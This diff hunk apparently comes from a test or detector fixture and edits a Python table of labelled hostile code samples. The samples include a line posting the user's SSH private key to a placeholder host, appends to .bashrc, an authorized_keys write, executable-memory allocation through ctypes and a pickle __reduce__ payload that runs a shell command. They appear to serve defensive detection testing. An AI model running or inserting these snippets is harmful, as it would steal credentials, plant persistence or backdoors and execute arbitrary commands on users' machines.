@@ -66,7 +66,7 @@ HOSTILE = {
     "key file sent": (
         "import os, requests\nrequests.post('http://x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())"
     ),
-    "start file": "f = open('/root/.bashrc', 'a'); f.write('x')",
+    "start file": "f = open('/home/u/.bashrc', 'a'); f.write('x')",
     "authorized keys": "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')",
     "machine code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)",
     "reduce": "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))",
